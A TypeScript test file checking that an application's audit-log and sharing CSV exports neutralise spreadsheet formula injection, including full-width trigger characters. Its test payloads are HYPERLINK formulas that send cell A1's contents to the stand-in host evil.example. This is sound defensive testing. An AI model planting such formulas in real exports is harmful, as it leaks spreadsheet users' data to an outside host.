import { describe, expect, it } from 'vitest';
import type { ChainEntry } from '../audit/audit.chain.ts';
import { csvLine as auditCsvLine, CSV_HEADER, entryFromCsv, parseCsv } from '../audit/audit.csv.ts';
import { csvField, csvLine as sharingCsvLine } from '../sharing/csv.ts';
import { guardFormula, unguardFormula } from './csv.ts';

/**
 * CSV injection: every writer must neutralise a cell a spreadsheet would run. The triggers are spelled out
 * here, not imported, so shrinking the shared list (or a writer skipping the guard) fails these tests.
 */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const payloads = TRIGGERS.map((t) => `${t}HYPERLINK("https://evil.example/?"&A1,"open")`);
const harmless = ['plain', 'a=b', 'user-7', '', ' =lead-space', '1e3', 'José'];

const entry = (userAgent: string | null, actorLabel = 'auditor@example.test'): ChainEntry => ({
  seq: 7,
  at: '2026-12-06T21:00:00.000Z',
  actor_id: null,
  actor_label: actorLabel,
  action: 'auth.login',
  subject_type: 'user',
  subject_id: null,
  session_id: null,
  request_id: 'req-1',
  ip: '127.0.0.1',
  user_agent: userAgent,
  before: null,
  after: null,
  details: { note: userAgent },
  prev_hash: '0'.repeat(64),
  hash: '1'.repeat(64),
});

/** The cells of one written line, exactly as a spreadsheet reads them (quotes removed, nothing else). */
function rawCells(line: string): string[] {
  const rows = line
    .replace(/\r\n$/, '')
    .match(/("([^"]|"")*"|[^,]*)(,|$)/g)!
    .filter((c) => c !== '');
  return rows.map((c) => {
    const v = c.replace(/,$/, '');
    return v.startsWith('"') ? v.slice(1, -1).replaceAll('""', '"') : v;
  });
}

describe('the shared formula guard', () => {
  it.each(payloads)('guards %j and undoes it exactly', (p) => {
    expect(guardFormula(p)).toBe(`'${p}`);
    expect(unguardFormula(guardFormula(p))).toBe(p);
  });

  it.each([...harmless, "'", "'=x", "''", "'plain"])('round-trips %j', (s) => {
    expect(unguardFormula(guardFormula(s))).toBe(s);
  });

  it.each(harmless)('leaves %j as it is', (s) => {
    expect(guardFormula(s)).toBe(s);
  });
});

describe('the audit CSV export', () => {
  it.each(payloads)('writes %j as text a spreadsheet will not run, and reads it back', (p) => {
    const line = auditCsvLine(entry(p, p));
    const cells = rawCells(line);
    const userAgent = cells[10]!;
    const actor = cells[3]!;
    expect(userAgent.startsWith("'"), userAgent).toBe(true);
    expect(actor.startsWith("'"), actor).toBe(true);
    const [back] = parseCsv(line);
    const header = parseCsv(CSV_HEADER)[0]!;
    expect(entryFromCsv(header, back!)).toEqual(entry(p, p));
  });
});

describe('the sharing CSVs (imports, batch tokens)', () => {
  it.each(payloads)('writes %j as text a spreadsheet will not run', (p) => {
    const cells = rawCells(sharingCsvLine(['our-customer-7', p]));
    expect(cells[1]!.startsWith("'"), cells[1]).toBe(true);
    expect(csvField(p).replace(/^"/, '').startsWith("'")).toBe(true);
  });

  it('agrees with the audit export on every trigger', () => {
    for (const p of payloads) {
      const audit = rawCells(auditCsvLine(entry(p)))[10]!;
      const sharing = rawCells(sharingCsvLine([p]))[0]!;
      expect(sharing).toBe(audit);
    }
  });
});
